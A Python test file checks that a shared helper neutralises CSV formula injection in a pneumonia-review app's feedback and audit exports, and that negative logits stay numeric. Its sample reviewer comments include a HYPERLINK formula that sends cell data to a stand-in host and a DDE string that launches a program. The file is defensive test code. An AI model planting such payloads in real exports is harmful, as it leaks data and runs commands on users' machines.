"""CSV formula injection: feedback.csv and the audit export neutralise cells a spreadsheet would run,
with one shared helper, while numbers (negative logits included) stay numbers the recalibration reads back."""
from __future__ import annotations

import csv
import io

import pytest

from core import audit
from core import repository as repo
from core.csvsafe import safe_cell
from core.db import session_scope
from core.feedback import COLUMNS, feedback_csv, read_feedback_csv

# What reviewers typed as comments; each would be run by a spreadsheet if written as is. (Stored comments are
# stripped, so a leading TAB or CR cannot reach the export that way; safe_cell's own test covers them.)
COMMENTS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "=1+1", "-x", "plain words, = later is fine"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("", ""), (None, ""), (-2.5, -2.5), (-3, -3), (0.0, 0.0), (True, "True"),
])
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected
    assert type(safe_cell(value)) is type(expected)


def scored_reviewed_study(s, n: int, *, logit: float, comment: str) -> int:
    study = repo.create_study(s, source_name=f"film{n}.png", sha256=f"{n:064x}", size_bytes=1, stored_path="x")
    token = repo.claim_study(s, study_id=study.id, worker="test")
    score = 0.25 if logit < 0 else 0.75
    assert repo.save_score(s, study_id=study.id, token=token, logit=logit, model_version="m1", score=score,
                           threshold=0.5, calibration_version="base", width=1, height=1, heatmap_path="h",
                           timings={})
    repo.record_feedback(s, study_id=study.id, finding="normal" if logit < 0 else "pneumonia", comment=comment,
                         reviewer="dora")
    return study.id


def test_feedback_csv_neutralises_formula_comments_and_keeps_negative_logits(db_url, tmp_path):
    logits = [-2.5, 1.75, -0.125, 3.0, -7.0, 0.5, -1e-3]
    with session_scope(db_url) as s:
        for n, (logit, comment) in enumerate(zip(logits, COMMENTS)):
            scored_reviewed_study(s, n, logit=logit, comment=comment)
    with session_scope(db_url) as s:
        text = feedback_csv(s, salt=b"test salt")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == COLUMNS and len(rows) == len(COMMENTS)
    assert [r["comment"] for r in rows] == ["'" + c for c in COMMENTS[:-1]] + [COMMENTS[-1]]
    # Numeric columns are written as plain numbers, not escaped: a negative logit is not a formula.
    assert [r["logit"] for r in rows] == [repr(z) for z in logits]
    assert [float(r["score"]) for r in rows] == [0.25 if z < 0 else 0.75 for z in logits]
    assert {r["threshold"] for r in rows} == {"0.5"} and {r["reviewer"] for r in rows} == {"dora"}
    # The recalibration input reader (training.recalibrate uses it) reads the export back exactly.
    path = tmp_path / "feedback.csv"
    path.write_text(text, encoding="utf-8", newline="")
    read_logits, labels, versions = read_feedback_csv(path)
    assert read_logits == logits and labels == [0 if z < 0 else 1 for z in logits] and versions == {"m1"}


def test_audit_export_uses_the_same_helper(db_url):
    with session_scope(db_url) as s:
        audit.record(s, actor="@evil", action=audit.LOGIN_FAILURE, client="+10.0.0.1", reason="unknown_user")
        rows = list(csv.DictReader(io.StringIO(audit.export_csv(s), newline="")))
    assert (rows[0]["actor"], rows[0]["client"]) == ("'@evil", "'+10.0.0.1")
    assert audit.safe_cell is safe_cell  # one helper, not a copy
